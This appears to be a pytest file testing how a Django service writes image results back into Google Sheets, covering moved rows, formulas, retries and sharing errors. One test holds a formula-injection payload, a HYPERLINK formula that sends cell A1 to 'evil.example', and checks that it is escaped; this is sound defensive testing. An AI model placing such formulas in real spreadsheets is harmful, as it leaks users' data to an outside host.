"""Results written back into the Google Sheet that they came from, by real gspread."""

import copy
from collections.abc import Callable

import pytest
from django.utils import timezone

from batches import couriers, deliveries, google, lifecycle, links, messages
from batches.exports.base import ExportError
from batches.exports.google_sheet import GoogleSheetExporter
from batches.google import wire
from batches.models import Batch, Delivery, Item, Result, Sheet, SheetKind
from batches.sources import columns, mapping, tables
from batches.states import BatchState, ItemState
from tests import factories, google_server
from tests.google_server import Formula, Spreadsheet, TabState, table


def url(name: str) -> str:
    return f"https://img.example.com/{name}.png"


def products() -> TabState:
    return TabState(
        "Shop",
        table(
            ["Spring", "", "", ""],
            ["Image", "SKU", "Price", "Note"],
            [url("a"), "0012", 3.5, Formula("=C3*2", "7")],
            [url("b"), "13", 4, ""],
            [],
            [url("c"), "14", 5, "", "stray"],
        ),
    )


@pytest.fixture
def imported(alice, fake_tool, cloud, monkeypatch) -> Callable[..., Delivery]:
    """Import a sheet as people do, let all its images succeed, and ask for the way back."""
    monkeypatch.setattr(wire, "BURST", 1000)

    def go(sheet: Spreadsheet) -> Delivery:
        alice.batch_images = 5000
        link = cloud.link(sheet)
        values, title, tab = google.read_table(link)
        found, rows = tables.from_values(values, tab=tab)
        what = mapping.guess(found, rows[:10], fake_tool)
        record = Sheet.objects.create(
            owner=alice,
            kind=SheetKind.GOOGLE,
            name=title,
            address=link,
            tab=tab,
            columns=found.columns,
            header=found.header,
            mapping=what,
        )
        made = list(mapping.rows(rows, found.columns, what, fake_tool))
        batch = lifecycle.create(alice, fake_tool, made, sheet=record)
        done(batch)
        cloud.calls.clear()
        return Delivery.objects.create(batch=batch, to="google_sheet")

    return go


def done(batch: Batch) -> None:
    """As if its images had succeeded."""
    at = timezone.now().replace(2026, 3, 1, 12, 30, 0)
    batch.items.update(state=ItemState.DONE, price=2, finished_at=at)
    Result.objects.bulk_create(
        Result(item=item, format="png", bytes=1, sha256="0") for item in batch.items.all()
    )


def push(delivery: Delivery, items: list[Item] | None = None) -> list[int | None]:
    """The rows that were lost on the way."""
    every = list(delivery.batch.items.order_by("position")) if items is None else items
    return [item.line for item in GoogleSheetExporter().push(delivery, every)]


def refusal(delivery: Delivery) -> ExportError:
    with pytest.raises(ExportError) as refused:
        push(delivery)
    assert messages.text(refused.value.code, refused.value.params) != messages.text("")
    return refused.value


def results(tab: TabState, *, header: int = 2) -> dict[str, str]:
    """What the sheet says of each address: the name in the link to its result."""
    names = tab.cells[header - 1]
    status, place = names.index(columns.STATUS), names.index(columns.RESULT)
    return {
        str(line[0]): tab.at(row, place)
        for row, line in enumerate(tab.cells)
        if line and tab.at(row, status) == columns.DONE
    }


def uids_of(batch: Batch) -> dict[str, str]:
    return {item.source_url: item.uid.hex for item in batch.items.all()}


def assert_each_row_has_its_own(tab: TabState, batch: Batch, *, header: int = 2) -> None:
    found, uids = results(tab, header=header), uids_of(batch)
    assert found
    assert all(uids[address] in place for address, place in found.items())


# --- Where they go --------------------------------------------------------------------


def test_results_go_into_their_rows_and_nothing_else_changes(cloud, imported):
    sheet = cloud.add(products())
    tab = sheet.tabs[0]
    before = copy.deepcopy(tab.cells)
    delivery = imported(sheet)
    failed = delivery.batch.items.get(line=4)
    Item.objects.filter(pk=failed.pk).update(
        state=ItemState.FAILED, price=0, error_code="no_subject"
    )

    assert push(delivery) == []

    assert tab.cells[1][5:] == list(columns.OURS)
    assert tab.cells[2][5:] == ["done", tab.at(2, 6), "", "", 2, "2026-03-01T12:30:00Z"]
    result = links.opened(tab.at(2, 6).rpartition("/")[2], now=timezone.now())
    assert result.item == delivery.batch.items.get(line=3)
    assert tab.cells[3][5:9] == ["failed", "", "", messages.text("no_subject")]
    assert [line[:5] for line in tab.cells] == [
        line + [""] * (5 - len(line)) if len(tab.cells[row]) > 5 else line[:5]
        for row, line in enumerate(before)
    ]


def test_a_second_time_changes_nothing_and_adds_nothing(cloud, imported):
    sheet = cloud.add(products())
    delivery = imported(sheet)
    push(delivery)
    tab = sheet.tabs[0]
    at = tab.cells[1].index(columns.RESULT)
    before = [[*line[:at], *line[at + 1 :]] for line in tab.cells]
    cloud.calls.clear()

    push(delivery)

    assert [[*line[:at], *line[at + 1 :]] for line in tab.cells] == before
    assert_each_row_has_its_own(tab, delivery.batch)  # by links that end a little later
    assert [kind for kind in cloud.kinds() if kind != "token"] == ["batchGet", "write"]


def test_a_thousand_rows_take_a_handful_of_calls(cloud, imported):
    rows = [[url(f"p{number}"), str(number)] for number in range(1000)]
    sheet = cloud.add(TabState("Shop", table(["Image", "SKU"], *rows), rows=1001, columns=2))
    delivery = imported(sheet)
    items = list(delivery.batch.items.order_by("position"))

    push(delivery, items[:500])
    push(delivery, items[500:])

    tab = sheet.tabs[0]
    assert len(results(tab, header=1)) == 1000
    assert_each_row_has_its_own(tab, delivery.batch, header=1)
    kinds = [kind for kind in cloud.kinds() if kind != "token"]
    first = ["batchGet", "get", "batchGet", "change", "get", "write", "write"]
    assert kinds == [*first, "batchGet", "write"]
    assert max(call.bytes for call in cloud.calls) < 2_000_000


def test_rows_that_lie_far_apart_are_written_together(cloud, imported):
    lines = [[url(f"p{number}")] if number % 97 == 0 else [] for number in range(6000)]
    sheet = cloud.add(TabState("Shop", table(["Image"], *lines), rows=9000))
    delivery = imported(sheet)
    push(delivery)
    cloud.calls.clear()

    push(delivery)

    assert len(results(sheet.tabs[0], header=1)) == 62
    assert cloud.kinds().count("write") == 1


def test_our_columns_are_found_again_wherever_somebody_has_put_them(cloud, imported):
    sheet = cloud.add(products())
    tab = sheet.tabs[0]
    tab.cells[1] = ["Image", "Studio_Status", "SKU", columns.TIME, columns.RESULT]
    delivery = imported(sheet)

    push(delivery)

    assert tab.cells[1][:5] == ["Image", "Studio_Status", "SKU", columns.TIME, columns.RESULT]
    assert tab.cells[1][5:] == [columns.ALT_TEXT, columns.ERROR, columns.CREDITS]
    assert tab.cells[2][1] == "done"
    assert tab.cells[2][3] == "2026-03-01T12:30:00Z"
    assert tab.cells[5][4] != "stray"


# --- Rows that move -------------------------------------------------------------------


def test_rows_that_moved_meanwhile_get_their_own_results(cloud, imported):
    sheet = cloud.add(products())
    tab = sheet.tabs[0]
    delivery = imported(sheet)
    tab.cells[2:] = [["new", "1"], tab.cells[5], tab.cells[3], [], [], tab.cells[2]]

    assert push(delivery) == []

    assert len(results(tab)) == 3
    assert_each_row_has_its_own(tab, delivery.batch)


def test_a_row_that_is_gone_or_means_another_image_is_left_alone(cloud, imported):
    sheet = cloud.add(products())
    tab = sheet.tabs[0]
    delivery = imported(sheet)
    tab.cells[2][0] = url("other")
    tab.cells[3][1] = "another SKU"
    before = copy.deepcopy(tab.cells[2:4])

    assert push(delivery) == [3, 4]

    assert tab.cells[2:4] == before
    assert set(results(tab)) == {url("c")}


def test_rows_that_hold_the_same_keep_their_order(cloud, imported):
    rows = [[url("same"), "1"], [url("b"), "2"], [url("same"), "1"], [url("same"), "other"]]
    sheet = cloud.add(TabState("Shop", table(["Image", "SKU"], *rows)))
    tab = sheet.tabs[0]
    delivery = imported(sheet)
    tab.cells.insert(1, ["", ""])
    uids = [item.uid.hex for item in delivery.batch.items.order_by("line")]

    assert push(delivery) == []

    assert [uids[at] in tab.at(at + 2, 3) for at in range(4)] == [True] * 4


def test_of_rows_that_hold_the_same_none_is_guessed_when_one_has_gone(cloud, imported):
    rows = [[url("same"), "1"], [url("b"), "2"], [url("same"), "1"]]
    sheet = cloud.add(TabState("Shop", table(["Image", "SKU"], *rows)))
    tab = sheet.tabs[0]
    delivery = imported(sheet)
    del tab.cells[1]

    assert push(delivery) == [2, 4]

    assert set(results(tab, header=1)) == {url("b")}


def test_columns_and_names_that_moved_are_found(cloud, imported):
    sheet = cloud.add(products())
    tab = sheet.tabs[0]
    delivery = imported(sheet)
    tab.cells.insert(0, ["Do not touch"])
    for line in tab.cells:
        line.insert(0, "")

    assert push(delivery) == []

    assert tab.cells[2][-6:] == list(columns.OURS)
    assert [tab.at(row, 6) for row in (3, 4, 6)] == ["done"] * 3


def test_an_address_in_a_formula_is_recognised(cloud, imported):
    rows = [[Formula(f'=IMAGE("{url(name)}")'), name] for name in "ab"]
    sheet = cloud.add(TabState("Shop", table(["Image", "SKU"], *rows)))
    delivery = imported(sheet)

    assert push(delivery) == []

    assert [sheet.tabs[0].at(row, 2) for row in (1, 2)] == ["done", "done"]
    assert sheet.tabs[0].at(1, 0) == rows[0][0]


def test_a_list_without_names_asks_for_them_and_then_works(cloud, imported):
    sheet = cloud.add(TabState("Shop", table([url("a")], [url("b")])))
    tab = sheet.tabs[0]
    delivery = imported(sheet)
    assert refusal(delivery).code == "google_no_header"
    assert tab.cells == [[url("a")], [url("b")]]
    tab.cells.insert(0, ["Image"])

    assert push(delivery) == []

    assert len(results(tab, header=1)) == 2


def test_a_delivery_names_the_rows_that_are_gone_and_writes_them_once_they_are_back(
    cloud, imported
):
    sheet = cloud.add(products())
    tab = sheet.tabs[0]
    batch = imported(sheet).batch
    Batch.objects.filter(pk=batch.pk).update(state=BatchState.FINISHED)
    gone = tab.cells.pop(3)
    delivery = deliveries.ask(batch, to="google_sheet")
    couriers.send(delivery.pk)

    delivery.refresh_from_db()
    assert (delivery.state, delivery.error_params) == ("failed", {"rows": "4"})
    assert len(results(tab)) == 2

    tab.cells.append(gone)
    deliveries.retry(delivery)
    couriers.send(delivery.pk)

    delivery.refresh_from_db()
    assert (delivery.state, delivery.error_code) == ("finished", "")
    assert len(results(tab)) == 3
    assert_each_row_has_its_own(tab, batch)


# --- The way round --------------------------------------------------------------------


def test_what_is_read_again_knows_which_rows_are_done(cloud, imported, fake_tool):
    sheet = cloud.add(products())
    delivery = imported(sheet)
    delivery.batch.items.filter(line=4).update(state=ItemState.FAILED, error_code="no_subject")
    push(delivery)

    found, rows = tables.from_values(google.read_table(cloud.link(sheet)).values)
    what = mapping.guess(found, rows, fake_tool)
    again = list(mapping.rows(rows, found.columns, what, fake_tool))

    assert [(row.line, row.is_done) for row in again] == [(3, True), (4, False), (6, True)]


def test_text_never_becomes_a_formula(cloud, imported):
    sheet = cloud.add(products())
    delivery = imported(sheet)
    evil = '=HYPERLINK("https://evil.example/?"&A1)'
    Result.objects.filter(item__line=3).update(format="txt", text=evil)
    Result.objects.filter(item__line=4).update(format="txt", text="x" * 60_000)

    push(delivery)

    tab = sheet.tabs[0]
    assert tab.at(2, 7) == f"'{evil}"
    assert len(tab.at(3, 7)) < 50_000


# --- Refusals -------------------------------------------------------------------------


def test_a_sheet_shared_for_viewing_says_whom_to_make_an_editor(cloud, imported):
    sheet = cloud.add(products(), share="reader")
    before = copy.deepcopy(sheet.tabs[0].cells)

    error = refusal(imported(sheet))

    assert (error.code, error.transient) == ("google_read_only", False)
    assert google_server.EMAIL in messages.text(error.code, error.params)
    assert sheet.tabs[0].cells == before


def test_a_sheet_that_is_no_longer_shared_is_no_passing_error(cloud, imported):
    sheet = cloud.add(products())
    delivery = imported(sheet)
    sheet.writers.clear()

    error = refusal(delivery)

    assert (error.code, error.transient) == ("google_not_shared", False)


def test_a_lasting_limit_is_for_later(cloud, imported):
    delivery = imported(cloud.add(products()))
    cloud.lasting = google_server.quota(Retry_After="45")

    error = refusal(delivery)

    assert (error.code, error.transient, error.retry_after) == ("google_busy", True, 45)


def test_a_passing_fault_between_reading_and_writing_is_waited_out(cloud, imported):
    sheet = cloud.add(products())
    delivery = imported(sheet)

    def fail_once(kind: str) -> None:
        if kind == "write":
            cloud.before = lambda kind: None
            cloud.revoke()
            cloud.refusals = [google_server.unavailable(), google_server.quota()]

    cloud.before = fail_once

    assert push(delivery) == []
    assert len(results(sheet.tabs[0])) == 3


def test_a_sheet_that_shrinks_under_our_hands_is_tried_again_later(cloud, imported):
    sheet = cloud.add(products())
    delivery = imported(sheet)
    push(delivery)

    def shrink(kind: str) -> None:
        if kind == "write":
            sheet.tabs[0].rows = 5

    cloud.before = shrink

    error = refusal(delivery)
    assert (error.code, error.transient) == ("google_outside", True)
    del sheet.tabs[0].cells[5:]
    assert push(delivery) == [6]


def test_a_column_of_addresses_that_was_renamed_is_still_known_by_its_place(cloud, imported):
    sheet = cloud.add(products())
    delivery = imported(sheet)
    sheet.tabs[0].cells[1][0] = "Photo"

    assert push(delivery) == []


def test_a_site_without_an_account_writes_nothing(cloud, imported, settings):
    delivery = imported(cloud.add(products()))
    settings.GOOGLE = {**settings.GOOGLE, "credentials": ""}

    assert refusal(delivery).code == "google_no_account"


def test_a_batch_from_elsewhere_has_no_sheet_to_write_to(cloud, alice, fake_tool):
    batch = factories.make_batch(alice, 1)

    assert (
        refusal(Delivery.objects.create(batch=batch, to="google_sheet")).code == "google_no_sheet"
    )
